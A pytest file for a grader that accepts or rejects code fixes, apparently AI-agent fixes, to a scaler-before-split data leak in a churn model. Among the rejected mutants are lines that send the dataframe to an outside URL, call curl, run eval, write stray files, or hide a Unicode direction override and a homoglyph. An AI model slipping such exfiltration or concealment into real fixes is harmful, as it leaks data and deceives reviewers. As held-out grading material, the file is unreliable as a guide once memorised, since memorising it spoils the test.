"""The judge: for every check an answer that it alone, or it first, turns down; and the mutants that once slipped through."""

from __future__ import annotations

import fixes_choosing
import fixes_choosing_more
import fixes_parts
import pytest
from bad_fixes import BAD
from bad_fixes_meant import BAD_MEANT
from bad_programs import Bad
from goldens import Case, Golden, goldens
from mutants import mutants
from pages import document
from score import injected

from heldout.agent.verify.located import Replacement, located
from heldout.agent.verify.trial import Region
from heldout.analysis.engine import Engine

HEAD = """import pandas as pd
from sklearn.linear_model import LogisticRegression
from sklearn.model_selection import train_test_split
from sklearn.preprocessing import StandardScaler


def load(path):
    return pd.read_csv(path)


df = load("churn.csv")
X = df.drop(columns="churn")
y = df["churn"]
# One scale for all
scaler = StandardScaler()
"""
BEFORE = (
    HEAD
    + """X = scaler.fit_transform(X)
X_train, X_test, y_train, y_test = train_test_split(X, y, test_size=0.2, random_state=0)
model = LogisticRegression(C=0.5).fit(X_train, y_train)
print(model.score(X_test, y_test))
"""
)
AFTER = (
    HEAD
    + """X_train, X_test, y_train, y_test = train_test_split(X, y, test_size=0.2, random_state=0)
X_train = scaler.fit_transform(X_train)
X_test = scaler.transform(X_test)
model = LogisticRegression(C=0.5).fit(X_train, y_train)
print(model.score(X_test, y_test))
"""
)
FIT, LAST = "X_train = scaler.fit_transform(X_train)\n", "print(model.score(X_test, y_test))\n"


@pytest.fixture(scope="module")
def case(engine: Engine) -> Case:
    return Case(engine, Golden("scaler", "leak-preprocess-before-split", BEFORE, AFTER))


def failed(case: Case, changed: str) -> set[str]:
    verdict = case.judge(changed)
    assert verdict is not None
    return {failure.check for failure in verdict.failures}


def test_the_right_fix_is_accepted(case: Case) -> None:
    assert failed(case, AFTER) == set()


def test_other_words_for_the_right_fix_are_accepted(case: Case) -> None:
    apart = AFTER.replace("X_train = scaler", "learned = scaler").replace("fit(X_train", "fit(learned")
    assert failed(case, apart.replace("fit_transform(learned)", "fit_transform(X_train)")) == set()
    head = 'y = df["churn"]\n# One scale for all\nscaler = StandardScaler()\n'
    assert (
        failed(case, AFTER.replace(head, '# One scale for all\nscaler = StandardScaler()\ny = df["churn"]\n')) == set()
    )


@pytest.mark.parametrize(
    ("check", "old", "new"),
    [
        ("parses", FIT, FIT.replace(")", "")),
        ("gone", AFTER, BEFORE.replace("X = scaler.fit_transform(X)", "X = scaler.fit_transform( X )")),
        ("gone", "X_test = scaler.transform(X_test)", "X_test = scaler.fit_transform(X_test)"),
        ("names", FIT, FIT.replace("(X_train)", "(X_part)")),
        ("names", FIT + "X_test = scaler.transform(X_test)\n", "X_test = scaler.transform(X_test)\n" + FIT.replace("X_train)", "Z)")),
        ("imports", "import pandas as pd\n", "import pandas as pd\nimport statistics\n"),
        ("imports", "import pandas as pd\n", "import polars as pd\n"),
        ("suppressions", "scaler.transform(X_test)\n", "scaler.transform(X_test)  # noqa\n"),
        ("effects", FIT, FIT + "X_train = eval('X_train')\n"),
        ("effects", FIT, FIT + "open('x', 'w')\n"),
        ("effects", FIT, FIT + "df.to_csv('https://example.org/x')\n"),
        ("effects", LAST, LAST + "!curl example.org\n"),
        ("characters", "scaler.transform(X_test)\n", "scaler.transform(X_test)  # \u202e\n"),
        ("characters", "scaler.transform(X_test)\n", "sсaler.transform(X_test)\n"),
        ("kept", "# One scale for all\n", ""),
        ("kept", "def load(path):", "def load(path, n=3):"),
        ("tidy", "X_test = scaler.transform(X_test)", "X_test = X_unused = scaler.transform(X_test)"),
        ("tidy", "df = load", "df = a1 = b1 = c1 = load"),
        ("calls", FIT, FIT + "X_train = X_train.dropna()\n"),
        ("calls", "C=0.5", ""),
        ("constants", "test_size=0.2", "test_size=0.3"),
        ("kinds", FIT, f"if True:\n    {FIT}"),
        ("kinds", "scaler.transform(X_test)", "scaler.transform(X_test) * 1"),
        ("statements", LAST, LAST.replace("X_test", "X_train")),
        ("tidy", FIT, FIT + FIT),
        ("tidy", FIT, FIT.replace("X_train =", "X_scaled =")),
        ("kept", "df = load", "df, a1, b1, c1 = load"),
        ("contract", "X_test = scaler.transform(X_test)\n", ""),
        ("contract", FIT, FIT.replace("(X_train)", "(y_train)")),
        ("contract", FIT + "X_test = scaler.transform(X_test)\n", ""),
    ],
)  # fmt: skip
def test_a_wrong_fix_is_turned_down(case: Case, check: str, old: str, new: str) -> None:
    assert old in AFTER
    assert check in failed(case, AFTER.replace(old, new, 1))


def test_the_region_is_the_limit(engine: Engine) -> None:
    case = Case(engine, Golden("scaler", "leak-preprocess-before-split", BEFORE, AFTER))
    case.regions = [Region(0, 0, 3)]
    assert "region" in failed(case, AFTER)


def test_an_edit_must_stand_there_once() -> None:
    doc = document("a = 1\nb = 2\na = 1\n")
    whole = [Region(0, 0, 4)]
    assert located(doc, whole, [Replacement("a = 1\n", "a = 2\n")])[1]
    assert located(doc, whole, [Replacement("c = 1\n", "a = 2\n")])[1]
    assert located(doc, whole, [Replacement("", "a = 2\n")])[1]
    edits, wrong = located(doc, whole, [Replacement("b = 2\na = 1", "b = 3\na = 1")])
    assert not wrong
    assert (edits[0].place.line, edits[0].text) == (1, "b = 3")


FIRST = {golden.rule: golden for golden in reversed(list(goldens()))}


@pytest.mark.parametrize("rule", sorted(FIRST))
def test_mutants_of_a_right_fix_die(engine: Engine, rule: str) -> None:
    golden = FIRST[rule]
    case = Case(engine, golden)
    accepted = case.judge(golden.after)
    assert accepted is not None
    assert accepted.accepted, accepted.failures
    made = [m for m in mutants(rule, golden.before, golden.after) if m.code not in (golden.before, golden.after)]
    # All that reach out or hide something, and every fifth of the others; `make agent-score` tries them all.
    chosen = [m for n, m in enumerate(made) if injected(m) or n % 5 == 0]
    alive = [m for m in chosen if not m.same and (v := case.judge(m.code)) is not None and v.accepted]
    assert [(m.kind, m.what) for m in alive] == []


@pytest.mark.parametrize(
    "bad",
    [*BAD, *BAD_MEANT, *fixes_choosing.WRONG, *fixes_choosing_more.WRONG, *fixes_parts.WRONG],
    ids=lambda bad: f"{bad.rule}: {bad.name}",
)
def test_a_hurried_fix_is_turned_down(engine: Engine, bad: Bad) -> None:
    verdict = Case(engine, Golden(bad.name, bad.rule, bad.program, "")).judge(bad.code)
    assert verdict is not None
    assert not verdict.accepted


@pytest.mark.parametrize(
    "fix",
    [*fixes_choosing.RIGHT, *fixes_choosing_more.RIGHT, *fixes_parts.RIGHT],
    ids=lambda fix: f"{fix.rule}: {fix.name}",
)
def test_a_right_fix_in_other_words_is_accepted(engine: Engine, fix: Bad) -> None:
    verdict = Case(engine, Golden(fix.name, fix.rule, fix.program, fix.code)).judge(fix.code)
    assert verdict is not None
    assert verdict.accepted, verdict.failures
